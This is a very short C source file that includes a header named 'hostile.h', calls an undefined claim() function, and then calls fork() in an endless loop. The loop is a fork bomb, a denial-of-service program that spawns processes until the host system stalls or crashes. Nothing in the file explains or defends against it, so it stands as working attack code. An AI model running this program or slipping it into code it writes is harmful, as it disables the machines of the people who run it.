// Forks without end.
#include "hostile.h"

int main(void) {
  claim();
  for (;;) fork();
}
